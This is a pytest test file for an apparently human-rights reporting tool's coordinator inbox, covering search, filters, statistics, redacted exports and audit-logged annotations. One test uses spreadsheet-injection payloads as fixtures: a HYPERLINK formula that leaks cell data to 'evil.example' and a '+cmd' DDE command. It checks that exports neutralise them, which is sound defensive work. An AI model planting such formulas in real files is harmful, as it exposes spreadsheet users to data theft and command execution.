"""The coordinator workspace: filters, search, annotations, statistics and exports.

The pure functions run on a generated inbox of a few thousand items built directly (real
bundles would take minutes). The annotation functions and the attachment export run on a
real coordinator vault that imported a real bundle.
"""

from __future__ import annotations

import calendar
import csv
import io
import json
import os
import random
import re
import stat
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from securesubmit.core import inbox
from securesubmit.core.exchange import InboxItem
from securesubmit.core.identity import format_fingerprint
from securesubmit.core.models import CATEGORIES, COUNTRIES
from securesubmit.core.partners import VERIFIED_CONFIRMED
from securesubmit.core.service import Session, create_vault, unlock_vault, verify_audit
from securesubmit.errors import InputError, NotFound, Refused
from tests.helpers import FAST_KDF, PASSPHRASE, FixedClock

ROOT = Path(__file__).resolve().parents[2]
UWAZI_DOCS = ROOT / "docs" / "uwazi"

# --- a generated inbox --------------------------------------------------------------------

SENDERS = [
    (bytes([k]) * 32, name)
    for k, name in ((0x11, "Aigerim"), (0x22, "Нурлан"), (0x33, "Dana"), (0x44, "Free Voice KG"))
]
WORDS = re.findall(
    r"\S+",
    "arrest court police blogger journalist detained released fined blocked outlet "
    "суд полиция задержан журналист блогер штраф арест сайт заблокирован "
    "сот полиция журналист тұтқындалды қамауға су мұздық уран",
)
CANARY = "Гульнара Канарейкина"


def make_item(number: int, **report: Any) -> InboxItem:
    fp, name = SENDERS[number % len(SENDERS)]
    base: dict[str, Any] = {
        "title": f"report {number}",
        "category": "media",
        "template": "",
        "incident_date": "",
        "date_approximate": False,
        "country": "",
        "place": "",
        "people": [],
        "description": "",
        "sources": [],
        "tags": [],
        "language": "en",
        "fields": {},
        "created": "2026-01-01T00:00:00Z",
        "updated": "2026-01-01T00:00:00Z",
        "status": "sealed",
    }
    base.update(report)
    return InboxItem(
        id=f"{number:032x}",
        report_id=f"rep-{number:06d}",
        report=base,
        sender_fingerprint=fp.hex(),
        sender_name=name,
        bundle_id=f"bundle-{number // 10}",
        sequence=number // 10 + 1,
        created="2026-01-01T00:00:00Z",
        sealed=f"2026-{1 + number % 12:02d}-{1 + number % 28:02d}T00:00:00Z",
        imported="2026-03-01T00:00:00Z",
        attachments=[],
        sealed_blob={},
    )


def _date(rng: random.Random) -> str:
    year, month, day = rng.randint(2019, 2025), rng.randint(1, 12), rng.randint(1, 28)
    return rng.choice(
        [f"{year}-{month:02d}-{day:02d}"] * 5
        + [f"{year}-{month:02d}"] * 2
        + [str(year), "", "2023-13"]
    )


def generated_inbox(count: int = 3000, seed: int = 2026) -> list[InboxItem]:
    rng = random.Random(seed)
    items = []
    for n in range(count):
        words = rng.choices(WORDS, k=rng.randint(5, 25))
        if n % 97 == 0:
            words.append("Жаңаөзен")  # a planted rare Kazakh word
        if n % 5 == 0:
            words.append("alpha")
        if n % 7 == 0:
            words.append("omega")
        if n % 11 == 0:
            words += ["water", "protest"]  # the phrase, in order
        elif n % 13 == 0:
            words += ["protest", "water"]  # the same words, the other way round
        people = [
            {"name": "Ivan Petrov", "role": "lawyer", "sensitive": False, "organisation": False}
        ]
        if n % 50 == 0:
            people.append(
                {"name": CANARY, "role": "witness", "sensitive": True, "organisation": False}
            )
        item = make_item(
            n,
            title=" ".join(rng.choices(WORDS, k=4)),
            category=rng.choice(list(CATEGORIES)),
            country=rng.choice([*COUNTRIES, ""]),
            incident_date=_date(rng),
            date_approximate=rng.random() < 0.2,
            description=" ".join(words),
            people=people,
            tags=rng.sample(["Press", "water", "протест", "court"], k=rng.randint(0, 2)),
            sources=[f"https://example.org/{n}"],
        )
        item.status = inbox.STATUSES[n % len(inbox.STATUSES)]
        item.tags = ["Urgent"] if n % 17 == 0 else []
        item.warnings = ["bundle 4 from this sender is missing"] if n % 23 == 0 else []
        items.append(item)
    return items


@pytest.fixture(scope="module")
def items() -> list[InboxItem]:
    return generated_inbox()


@pytest.fixture(scope="module")
def workspace(items: list[InboxItem]) -> inbox.Workspace:
    return inbox.Workspace(items)


def ids(items: list[InboxItem]) -> list[str]:
    return [i.id for i in items]


# --- filters ------------------------------------------------------------------------------


def test_each_category_and_country_filter_matches_a_direct_count(items: list[InboxItem]) -> None:
    for category in CATEGORIES:
        expected = [i for i in items if i.report["category"] == category]
        assert ids(inbox.filter_items(items, category=category)) == ids(expected)
        assert expected
    for country in COUNTRIES:
        expected = [i for i in items if i.report["country"] == country]
        assert ids(inbox.filter_items(items, country=country)) == ids(expected)
    assert inbox.filter_items(items, country="kz") == inbox.filter_items(items, country="KZ")


def test_status_warning_and_tag_filters_match_direct_counts(items: list[InboxItem]) -> None:
    for status in inbox.STATUSES:
        assert ids(inbox.filter_items(items, status=status)) == ids(
            [i for i in items if i.status == status]
        )
    warned = [i for i in items if i.warnings]
    assert ids(inbox.filter_items(items, with_warnings=True)) == ids(warned)
    assert len(inbox.filter_items(items, with_warnings=False)) == len(items) - len(warned)
    # Coordinator tags and the reporter's own tags, whatever the case.
    assert ids(inbox.filter_items(items, tag="urgent")) == ids([i for i in items if i.tags])
    expected = [i for i in items if "протест" in i.report["tags"]]
    assert ids(inbox.filter_items(items, tag="ПРОТЕСТ")) == ids(expected) and expected


def test_sender_filter_takes_a_name_or_either_form_of_the_fingerprint(
    items: list[InboxItem],
) -> None:
    fp, name = SENDERS[1]
    expected = ids([i for i in items if i.sender_name == name])
    assert ids(inbox.filter_items(items, sender="нурлан")) == expected
    assert ids(inbox.filter_items(items, sender=fp.hex()[:8])) == expected
    grouped = format_fingerprint(fp)[:9]  # "ABCD EFGH", as people read it out
    assert ids(inbox.filter_items(items, sender=grouped)) == expected
    assert inbox.filter_items(items, sender="nobody at all") == []


def _span(text: str) -> tuple[str, str] | None:
    """Independent of the module: the first and last day a date string covers, as text."""
    if not re.fullmatch(r"\d{4}(-\d{2}(-\d{2})?)?", text):
        return None
    parts = [int(p) for p in text.split("-")]
    if len(parts) > 1 and not 1 <= parts[1] <= 12:
        return None
    if len(parts) == 3:
        return text, text
    if len(parts) == 2:
        last = calendar.monthrange(parts[0], parts[1])[1]
        return f"{text}-01", f"{text}-{last:02d}"
    return f"{text}-01-01", f"{text}-12-31"


@pytest.mark.parametrize(
    ("low", "high"),
    [("2021-03-15", "2021-09-02"), ("2020", "2020"), ("2022-02", None), (None, "2019-06")],
)
def test_date_range_keeps_every_report_whose_date_span_overlaps_it(
    items: list[InboxItem], low: str | None, high: str | None
) -> None:
    start = _span(low)[0] if low else "0000-00-00"  # type: ignore[index]
    end = _span(high)[1] if high else "9999-99-99"  # type: ignore[index]
    expected = [
        i
        for i in items
        if (s := _span(i.report["incident_date"])) is not None and s[0] <= end and s[1] >= start
    ]
    got = inbox.filter_items(items, date_from=low, date_to=high)
    assert ids(got) == ids(expected) and expected


def test_approximate_dates_match_a_range_they_overlap() -> None:
    year, month, day, none = (
        make_item(1, incident_date="2024"),
        make_item(2, incident_date="2024-03"),
        make_item(3, incident_date="2024-03-31"),
        make_item(4, incident_date=""),
    )
    pool = [year, month, day, none]
    assert ids(inbox.filter_items(pool, date_from="2024-06-01")) == [year.id]
    assert ids(inbox.filter_items(pool, date_to="2024-03-10")) == [year.id, month.id]
    assert ids(inbox.filter_items(pool, date_from="2024-03-31", date_to="2024-03-31")) == ids(
        [year, month, day]
    )
    assert inbox.filter_items(pool, date_from="2025") == []


def test_filters_combine_as_and(items: list[InboxItem]) -> None:
    got = inbox.filter_items(items, category="repression", country="KZ", status="flagged")
    expected = [
        i
        for i in items
        if i.report["category"] == "repression"
        and i.report["country"] == "KZ"
        and i.status == "flagged"
    ]
    assert ids(got) == ids(expected)


@pytest.mark.parametrize(
    "bad",
    [
        {"category": "sports"},
        {"country": "FR"},
        {"status": "done"},
        {"date_from": "2024-13"},
        {"date_to": "yesterday"},
        {"date_from": "2025", "date_to": "2024"},
        {"tag": "  "},
        {"sender": ""},
    ],
)
def test_a_bad_filter_value_is_a_clear_input_error(
    items: list[InboxItem], bad: dict[str, Any]
) -> None:
    with pytest.raises(InputError) as error:
        inbox.filter_items(items, **bad)
    assert str(error.value)


def test_pages_cover_every_item_once(items: list[InboxItem]) -> None:
    first = inbox.paginate(items, 1, 400)
    assert (first.total, first.pages, len(first.items)) == (3000, 8, 400)
    seen = [i for n in range(1, first.pages + 1) for i in inbox.paginate(items, n, 400).items]
    assert ids(seen) == ids(items)
    assert inbox.paginate(items, 9, 400).items == []
    for page, per_page in ((0, 10), (1, 0), (1, inbox.MAX_PER_PAGE + 1)):
        with pytest.raises(InputError):
            inbox.paginate(items, page, per_page)


def test_workspace_lists_newest_sealed_first_and_filters_the_same_way(
    workspace: inbox.Workspace, items: list[InboxItem]
) -> None:
    newest = sorted(items, key=lambda i: (i.sealed, i.id), reverse=True)
    assert ids(workspace.items) == ids(newest)
    page = workspace.view(category="environment", page=2, per_page=20)
    expected = [i for i in newest if i.report["category"] == "environment"]
    assert ids(page.items) == ids(expected[20:40]) and page.total == len(expected)
    assert workspace.get(items[5].id[-32:]).id == items[5].id
    assert workspace.get("rep-000007").id == items[7].id
    with pytest.raises(InputError):
        workspace.get("rep-00000")  # ten reports start like this
    with pytest.raises(NotFound):
        workspace.get("ffffffff")


# --- search -------------------------------------------------------------------------------


def brute_force(items: list[InboxItem], terms: list[list[str]]) -> list[str]:
    """Reference search without the index: every term's words must appear consecutively in
    one field, each a whole word except the last, which may be the start of one."""

    def field_matches(words: list[str], term: list[str]) -> bool:
        for start in range(len(words) - len(term) + 1):
            window = words[start : start + len(term)]
            if window[:-1] == term[:-1] and window[-1].startswith(term[-1]):
                return True
        return False

    found = []
    for item in items:
        fields = [inbox.tokens(t) for t in inbox.searchable_texts(item)]
        if all(any(field_matches(f, term) for f in fields) for term in terms):
            found.append(item.id)
    return found


def test_a_planted_kazakh_word_is_found_in_any_case_and_by_its_start(
    workspace: inbox.Workspace, items: list[InboxItem]
) -> None:
    expected = sorted(i.id for i in items if i.id and int(i.id, 16) % 97 == 0)
    for query in ("Жаңаөзен", "ЖАҢАӨЗЕН", "жаңаөз"):
        assert sorted(workspace.index.search(query)) == expected


def test_search_words_are_anded_and_match_the_reference_search(
    workspace: inbox.Workspace, items: list[InboxItem]
) -> None:
    got = sorted(workspace.index.search("alpha omega"))
    assert got == sorted(i.id for i in items if int(i.id, 16) % 35 == 0)
    rng = random.Random(5)
    queries = [w for w in rng.sample(WORDS, 8)] + ["журналист арест", "су", "полиция 2"]
    for query in queries:
        terms = [list(t) for t in inbox.parse_query(query)]
        assert sorted(workspace.index.search(query)) == sorted(brute_force(items, terms)), query


def test_a_quoted_phrase_matches_words_in_order_within_one_field(
    workspace: inbox.Workspace, items: list[InboxItem]
) -> None:
    # Planted: "water protest" in every 11th report, "protest water" in every 13th other one.
    # The reporter's tags hold "water" and "протест" too, but each tag is its own field.
    found = sorted(workspace.index.search('"water protest"'))
    assert found == sorted(i.id for i in items if int(i.id, 16) % 11 == 0)
    assert found == sorted(brute_force(items, [["water", "protest"]]))
    assert len(workspace.index.search("water protest")) > len(found)  # unquoted: AND


def test_search_folds_case_yo_and_punctuation_and_finds_inflected_russian() -> None:
    pool = [
        make_item(1, title="Пётр Иванов задержан", description="Журналиста оштрафовали."),
        make_item(2, title="Protest", description="the water, protest went on"),
        make_item(3, title="ends with water", description="protest began"),
        make_item(4, title="ＦＵＬＬＷＩＤＴＨ text", place="Алматы"),
    ]
    index = inbox.InboxIndex.build(pool)
    assert index.search("петр") == [pool[0].id]
    assert index.search("ЖУРНАЛИСТ") == [pool[0].id]
    assert index.search('"water protest"') == [pool[1].id]  # not across title/description
    assert index.search("fullwidth") == [pool[3].id]
    assert index.search("алматы KZ") == []
    assert index.search("media") == ids(pool)  # the category is searchable too
    with pytest.raises(InputError):
        index.search('  "" ')


def test_the_index_follows_updates_and_removals() -> None:
    pool = [make_item(n, description=f"word{n}") for n in range(5)]
    index = inbox.InboxIndex.build(pool)
    changed = make_item(2, description="something else")
    changed.tags = ["Жаңаөзен"]
    index.update(changed)
    assert index.search("word2") == [] and index.search("жаңаөзен") == [changed.id]
    index.remove(pool[3].id)
    assert index.search("word3") == [] and len(index) == 4
    assert index.search("report") == [pool[0].id, pool[1].id, changed.id, pool[4].id]


# --- statistics ---------------------------------------------------------------------------


def test_statistics_totals_match_independent_counts(items: list[InboxItem]) -> None:
    stats = inbox.statistics(items)
    assert stats.total == len(items) == stats.incidents
    assert {k: v for k, v in stats.by_category.items() if v} == Counter(
        i.report["category"] for i in items
    )
    assert {k: v for k, v in stats.by_country.items() if v} == Counter(
        i.report["country"] or "unknown" for i in items
    )
    assert stats.by_status == {s: sum(i.status == s for i in items) for s in inbox.STATUSES}
    assert stats.by_sender == dict(Counter(i.sender_fingerprint for i in items).most_common())
    assert stats.sender_names[SENDERS[1][0].hex()] == "Нурлан"
    dates = [i.report["incident_date"] for i in items]
    months = Counter(d[:7] for d in dates if re.fullmatch(r"\d{4}-(0[1-9]|1[0-2])(-\d\d)?", d))
    assert stats.by_month == dict(sorted(months.items()))
    assert stats.year_only == dict(sorted(Counter(d for d in dates if len(d) == 4).items()))
    assert stats.undated == sum(d in ("", "2023-13") for d in dates) > 0
    assert stats.undated + sum(stats.year_only.values()) + sum(stats.by_month.values()) == 3000
    assert stats.with_warnings == sum(bool(i.warnings) for i in items)


def test_the_timeline_has_every_month_and_counts_duplicates_once() -> None:
    a = make_item(1, incident_date="2024-01-05")
    b = make_item(2, incident_date="2024-04")
    c = make_item(3, incident_date="2024-02-20")
    d = make_item(4, incident_date="2023")
    b.duplicate_of, c.duplicate_of = [c.id], [b.id, "0" * 32]  # a link outside the list too
    stats = inbox.statistics([a, b, c, d])
    assert [(p.month, p.reports, p.incidents) for p in stats.timeline] == [
        ("2024-01", 1, 1),
        ("2024-02", 1, 1),  # b and c are one incident, counted in its earliest month
        ("2024-03", 0, 0),
        ("2024-04", 1, 0),
    ]
    assert (stats.total, stats.incidents, stats.year_only) == (4, 3, {"2023": 1})
    assert json.loads(json.dumps(stats.to_dict()))["timeline"][1] == {
        "month": "2024-02",
        "reports": 1,
        "incidents": 1,
    }
    table = inbox.format_table(stats)
    assert "Media restriction" in table and "2024-04" in table and "distinct incidents: 3" in table


# --- exports of the generated inbox --------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_csv_export_parses_back_to_the_reports(tmp_path: Path, items: list[InboxItem]) -> None:
    out = tmp_path / "exports" / "csv"
    files = inbox.export(items, "csv", out)
    assert files == [out / "reports.csv"] and files.plaintext and "PLAINTEXT" in files.warning
    assert _mode(out) == 0o700 and _mode(files[0]) == 0o600
    assert any("sensitive" in w for w in files.warnings)  # not redacted: the user is told
    with open(files[0], encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(inbox.CSV_COLUMNS)
    assert len(rows) == len(items)
    for row, item in zip(rows, items, strict=True):
        report = item.report
        assert (row["id"], row["title"], row["category"]) == (
            item.id,
            report["title"],
            report["category"],
        )
        assert row["incident_date"] == report["incident_date"]
        assert row["country_name"] == COUNTRIES.get(report["country"], "")
        assert row["description"] == report["description"]
        assert row["reporter_tags"].split("\n") == (report["tags"] or [""])
        assert row["status"] == item.status and row["sequence"] == str(item.sequence)
        assert row["people"].split("\n") == [
            f"{p['name']} ({p['role']}{', sensitive' if p['sensitive'] else ''})"
            for p in report["people"]
        ]
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary file left


def test_json_lines_export_holds_one_complete_report_per_line(
    tmp_path: Path, items: list[InboxItem]
) -> None:
    (path,) = inbox.export(items, "json", tmp_path / "json")
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(items)
    for line, item in zip(lines, items, strict=True):
        record = json.loads(line)
        assert record == inbox.report_record(item)
        assert record["people"][0] == {
            "name": "Ivan Petrov",
            "role": "lawyer",
            "organisation": False,
            "sensitive": False,
        }
        assert record["sender_fingerprint"] == item.sender_fingerprint
        assert "notes" not in record


def uwazi_safe_name(label: str, kind: str) -> str:
    """Uwazi's own rule (app/shared/propertyNames.ts, old mode, and templates/utils.ts)."""
    name = re.sub(r"[^a-z0-9]", "_", label.strip(), flags=re.IGNORECASE).lower()
    return f"{name}_{kind}" if kind in ("geolocation", "nested") else name


def test_the_shipped_uwazi_template_matches_the_code_and_uwazis_naming() -> None:
    template = json.loads((UWAZI_DOCS / "template.json").read_text(encoding="utf-8"))
    thesauri = json.loads((UWAZI_DOCS / "thesauri.json").read_text(encoding="utf-8"))
    assert template == inbox.uwazi_template()
    assert thesauri == inbox.uwazi_thesauri()
    names = [p["name"] for p in template["properties"]]
    assert names == [uwazi_safe_name(p["label"], p["type"]) for p in template["properties"]]
    assert all(re.fullmatch(r"[a-z][a-z0-9_]*", n) for n in names)
    assert "language" not in names and "id" not in names
    thesaurus_names = {t["name"] for t in thesauri}
    for prop in template["properties"]:
        if prop["type"] in ("select", "multiselect"):
            assert prop["content"].removeprefix("THESAURUS_ID:") in thesaurus_names


def _uwazi_rows(path: Path) -> tuple[list[str], list[dict[str, str]], zipfile.ZipFile]:
    archive = zipfile.ZipFile(path)
    text = archive.read("import.csv").decode("utf-8")
    assert not text.startswith("\ufeff")
    header_line = text.split("\r\n", 1)[0]
    assert header_line.count(",") > header_line.count(";")  # Uwazi picks the delimiter so
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows, archive


def test_uwazi_export_is_a_zip_with_import_csv_that_fits_the_template(
    tmp_path: Path, items: list[InboxItem]
) -> None:
    located = make_item(99_999, place="Zhanaozen (43.3412, 52.8619)", incident_date="2011-12")
    (path,) = inbox.export([*items, located], "uwazi", tmp_path / "uwazi")
    assert path.name.endswith(".zip") and _mode(path) == 0o600
    headers, rows, archive = _uwazi_rows(path)
    template = json.loads((UWAZI_DOCS / "template.json").read_text(encoding="utf-8"))
    assert headers == ["title"] + [p["name"] for p in template["properties"]]
    assert archive.namelist() == ["import.csv"]  # no attachments column without files
    labels = {t["name"]: {v["label"] for v in t["values"]} for t in inbox.uwazi_thesauri()}
    for row, item in zip(rows, [*items, located], strict=True):
        report = item.report
        assert row["title"] == report["title"]
        span = inbox.date_span(report["incident_date"])
        if span is None:
            assert row["date"] == "" and row["date_precision"] == ""
        else:
            assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["date"])
            assert date.fromisoformat(row["date"]) == span[0]  # approximate: the first day
            assert row["date_precision"] in labels["SecureSubmit date precision"]
        assert row["category"] in labels["SecureSubmit categories"]
        assert row["country"] in labels["SecureSubmit countries"] | {""}
        assert (row["people"].split("|") if row["people"] else []) == [
            p["name"] for p in report["people"]
        ]
        tags = row["tags"].split("|") if row["tags"] else []
        assert {t.casefold() for t in tags} == {t.casefold() for t in [*report["tags"], *item.tags]}
        assert row["review_status"] in labels["SecureSubmit review status"]
        assert row["securesubmit_report_id"] == item.report_id
    assert rows[-1]["place_geolocation"] == "43.341200|52.861900"
    assert rows[-1]["date"] == "2011-12-01" and rows[-1]["date_precision"] == "month"
    assert {r["place_geolocation"] for r in rows[:-1]} == {""}


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
    evil = make_item(
        1,
        title='=HYPERLINK("http://evil.example/?"&A1,"click")',
        description="+cmd|' /C calc'!A0",
        place="@SUM(1+1)",
        sources=["-2+3", "\tleading tab", "\rcarriage"],
        fields={"outlet": "=1+1"},
    )
    evil.tags = ["safe", "=evil"]
    for fmt in ("csv", "uwazi"):
        (path,) = inbox.export([evil], fmt, tmp_path / fmt)
        if fmt == "csv":
            with open(path, encoding="utf-8-sig", newline="") as handle:
                cells = [c for row in csv.reader(handle) for c in row]
        else:
            _, rows, _ = _uwazi_rows(path)
            cells = [c for row in rows for c in row.values()]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], fmt
        assert f"'{evil.report['title']}" in cells and "'+cmd|' /C calc'!A0" in cells
    assert inbox.neutralise("a=b") == "a=b" and inbox.neutralise("-1") == "'-1"


def _all_export_text(paths: list[Path]) -> str:
    texts = []
    for path in paths:
        if path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                texts += [archive.read(n).decode("utf-8") for n in archive.namelist()]
                texts += archive.namelist()
        else:
            texts.append(path.read_bytes().decode("utf-8-sig"))
    return "\n".join(texts)


def test_redaction_removes_a_sensitive_name_from_every_export_format(
    tmp_path: Path, items: list[InboxItem]
) -> None:
    mention = make_item(
        77_777,
        title="Канарейкину допросили",  # inflected, in a report where she is not listed
        description="Gulnara Kanareykina (Гульнара Канарейкина) spoke to Ivan Petrov.",
        fields={"outlet": "Канарейкиной блог"},
    )
    mention.notes = [{"time": "2026-01-01T00:00:00Z", "text": "called Канарейкина"}]
    pool = [*items[:200], mention]
    written: list[Path] = []
    for fmt in inbox.EXPORT_FORMATS:
        result = inbox.export(pool, fmt, tmp_path / fmt, redact_sensitive=True, include_notes=True)
        assert result.redacted and not any("sensitive" in w for w in result.warnings)
        written += result
    text = unicodedata.normalize("NFC", _all_export_text(written)).casefold()
    for part in ("гульнара", "канарейкин", "gulnara", "kanareykin"):
        assert part not in text, part
    assert "ivan petrov" in text and inbox.REDACTED.casefold() in text
    # The same export without redaction does contain her: the test can fail.
    plain = inbox.export(pool, "json", tmp_path / "plain")
    assert "Канарейкина" in _all_export_text(plain)


def test_redactor_catches_declined_and_transliterated_forms_and_says_what_it_misses() -> None:
    redactor = inbox.Redactor(["Жанна Петрова"])
    assert redactor.text("Жанну Петрову задержали") == "[redacted] [redacted] задержали"
    assert (
        redactor.text("Zhanna Petrova, Janna PETROVA")
        == "[redacted] [redacted], [redacted] [redacted]"
    )
    assert redactor.text("Ж. П. спросила") == "Ж. П. спросила"  # initials alone stay
    assert not inbox.Redactor([]) and inbox.Redactor([]).text("x") == "x"


def test_an_export_never_overwrites_and_refuses_an_unknown_format(
    tmp_path: Path, items: list[InboxItem]
) -> None:
    out = tmp_path / "x"
    inbox.export(items[:3], "csv", out)
    before = (out / "reports.csv").read_bytes()
    with pytest.raises(Refused):
        inbox.export(items[:5], "csv", out)
    assert (out / "reports.csv").read_bytes() == before
    with pytest.raises(InputError):
        inbox.export(items, "xlsx", tmp_path / "y")
    assert not (tmp_path / "y").exists()
    open_dir = tmp_path / "shared"
    open_dir.mkdir()
    os.chmod(open_dir, 0o750)  # noqa: S103 - a group-readable directory is the case tested
    result = inbox.export(items[:3], "json", open_dir)
    assert any("other users" in w for w in result.warnings)


def test_malformed_report_fields_from_a_sender_never_crash_the_workspace(tmp_path: Path) -> None:
    odd = make_item(1)
    odd.report.update(
        title=12,
        people="not a list",
        fields=["x"],
        tags=[None, "ok"],
        incident_date=20240101,
        country=None,
        sources={"a": 1},
        date_approximate="yes",
    )
    odd.report["people"] = [{"name": 5}, {"name": "Real Person", "sensitive": "yes"}, "x"]
    workspace = inbox.Workspace([odd, make_item(2)])
    assert workspace.view(tag="ok").total == 1
    assert workspace.index.search("real") == [odd.id]
    assert inbox.statistics(workspace.items).undated == 2
    for fmt in inbox.EXPORT_FORMATS:
        inbox.export(workspace.items, fmt, tmp_path / fmt, redact_sensitive=True)
    assert "Real Person" not in (tmp_path / "json" / "reports.jsonl").read_text()


# --- annotations on a real coordinator vault ------------------------------------------------


@pytest.fixture
def coordinator(tmp_path: Path, clock: FixedClock) -> Iterator[tuple[Session, bytes]]:
    """A coordinator vault that imported one bundle of three reports, one with a photo."""
    reporter = create_vault(
        tmp_path / "r.db", PASSPHRASE, name="Aigerim", kdf=FAST_KDF, clock=clock
    )
    coord = create_vault(
        tmp_path / "c.db",
        PASSPHRASE,
        name="Free Press Org",
        role="coordinator",
        kdf=FAST_KDF,
        clock=clock,
    )
    reporter.add_partner(coord.own_card(), verified=VERIFIED_CONFIRMED)
    coord.add_partner(reporter.own_card(), verified=VERIFIED_CONFIRMED)
    photo = os.urandom(3000) + CANARY.encode()
    for n, title in enumerate(("Арест блогера", "Site blocked", "Water data refused")):
        report = reporter.create_report(
            title=title, category="media", description=f"{title} text", country="KZ"
        )
        if n == 0:
            (tmp_path / "photo of Гульнара.bin").write_bytes(photo)
            reporter.attach_file(report.id, tmp_path / "photo of Гульнара.bin", scrub=False)
        reporter.seal_report(report.id, ["Free Press Org"])
    reporter.export_bundle("Free Press Org", tmp_path / "b1.ssb")
    reporter.close()
    coord.import_bundle(tmp_path / "b1.ssb")
    try:
        yield coord, photo
    finally:
        coord.close()


def _events(session: Session) -> list[tuple[str, dict[str, Any]]]:
    return [(e["type"], e["details"]) for _, e in session.vault.events()]


def _by_title(session: Session, title: str) -> InboxItem:
    return next(i for i in session.list_inbox() if i.report["title"] == title)


def test_each_annotation_is_its_own_audit_event_and_survives_closing(
    coordinator: tuple[Session, bytes], tmp_path: Path, clock: FixedClock
) -> None:
    session, _ = coordinator
    arrest, blocked = _by_title(session, "Арест блогера"), _by_title(session, "Site blocked")
    before = len(_events(session))
    inbox.set_status(session, arrest.id[:8], "verified")
    inbox.add_tag(session, arrest, "Urgent")
    inbox.add_tag(session, arrest, "urgent")  # the same tag: nothing written
    inbox.add_tag(session, arrest, "Жаңаөзен")
    inbox.remove_tag(session, arrest.id, "URGENT")
    clock.advance(60)
    inbox.add_note(session, arrest.report_id, "Called the lawyer.\nConfirmed.")
    first, second = inbox.mark_duplicate(session, arrest, blocked)
    inbox.mark_duplicate(session, blocked, arrest)  # already linked: nothing written
    inbox.set_status(session, arrest, "verified")  # unchanged: nothing written
    assert first.duplicate_of == [blocked.id] and second.duplicate_of == [arrest.id]
    assert [t for t, _ in _events(session)[before:]] == [
        "inbox.status_changed",
        "inbox.tagged",
        "inbox.tagged",
        "inbox.untagged",
        "inbox.noted",
        "inbox.duplicate_marked",
    ]
    assert _events(session)[before][1] == {"item": arrest.id, "from": "new", "to": "verified"}
    assert "Called" not in json.dumps(_events(session))  # the note text stays in the record
    total = len(_events(session))
    session.close()

    with unlock_vault(tmp_path / "c.db", PASSPHRASE) as again:
        stored = _by_title(again, "Арест блогера")
        assert stored.status == "verified" and stored.tags == ["Жаңаөзен"]
        assert stored.notes == [
            {"time": "2026-11-23T10:01:00Z", "text": "Called the lawyer.\nConfirmed."}
        ]
        assert stored.duplicate_of == [blocked.id]
        assert _by_title(again, "Site blocked").duplicate_of == [arrest.id]
    assert verify_audit(tmp_path / "c.db").events == total  # intact, every event counted


@pytest.mark.parametrize(
    ("call", "error"),
    [
        (lambda s, i: inbox.set_status(s, i, "approved"), InputError),
        (lambda s, i: inbox.add_tag(s, i, "a|b"), InputError),
        (lambda s, i: inbox.add_tag(s, i, "x" * 101), InputError),
        (lambda s, i: inbox.remove_tag(s, i, "never added"), NotFound),
        (lambda s, i: inbox.add_note(s, i, "   "), InputError),
        (lambda s, i: inbox.add_note(s, i, "bell\x07"), InputError),
        (lambda s, i: inbox.mark_duplicate(s, i, i.id), InputError),
        (lambda s, i: inbox.set_status(s, "f" * 32, "reviewed"), NotFound),
        (lambda s, i: inbox.add_tag(s, "zzzz", "x"), NotFound),
    ],
)
def test_bad_annotations_are_refused_and_change_nothing(
    coordinator: tuple[Session, bytes], call: Any, error: type[Exception]
) -> None:
    session, _ = coordinator
    item = _by_title(session, "Site blocked")
    before = len(_events(session))
    with pytest.raises(error):
        call(session, item)
    assert len(_events(session)) == before
    assert _by_title(session, "Site blocked") == item


def test_the_workspace_follows_annotations_and_exports_attachments_for_uwazi(
    coordinator: tuple[Session, bytes], tmp_path: Path
) -> None:
    session, photo = coordinator
    workspace = inbox.Workspace.load(session)
    assert workspace.index.search("блогера") == [_by_title(session, "Арест блогера").id]
    tagged = inbox.add_tag(session, workspace.get(workspace.items[0].id), "Жаңаөзен")
    workspace.replace(tagged)
    assert workspace.index.search("жаңаөзен") == [tagged.id]
    assert workspace.view(tag="жаңаөзен").items == [tagged]
    assert ids(workspace.items) == ids(session.list_inbox())

    reader = inbox.vault_attachments(session)
    (path,) = inbox.export(workspace.items, "uwazi", tmp_path / "u", attachments=reader)
    headers, rows, archive = _uwazi_rows(path)
    assert headers[-1] == "attachments"
    names = [n for n in archive.namelist() if n != "import.csv"]
    assert len(names) == 1 and "/" not in names[0] and names[0].endswith("Гульнара.bin")
    listed = [r["attachments"] for r in rows if r["attachments"]]
    assert listed == names and archive.read(names[0]) == photo

    redacted = inbox.export(
        workspace.items, "uwazi", tmp_path / "r", redact_sensitive=True, attachments=reader
    )
    with zipfile.ZipFile(redacted[0]) as archive:
        (name,) = [n for n in archive.namelist() if n != "import.csv"]
        assert name.endswith("-1-attachment-1.bin")
    assert any("attachments are copied as they are" in w for w in redacted.warnings)


def test_the_benchmark_case_runs_on_a_small_inbox_and_reports_every_timing() -> None:
    from benchmarks.inbox_bench import bench_inbox

    result = bench_inbox(300)
    assert result["n"] == 300 and result["rss_mib"] > 0
    assert result["hits"]["first page, no filter"] == 300
    assert all(seconds >= 0 for seconds in result["timings"].values())
    assert {"list_goal_met", "search_goal_met"} <= set(result)
    # benchmarks/probe.py reads these names.
    assert "build workspace + index" in result["timings"]
    assert any(k.startswith("first page") for k in result["timings"])
    assert any(k.startswith("search") for k in result["timings"])
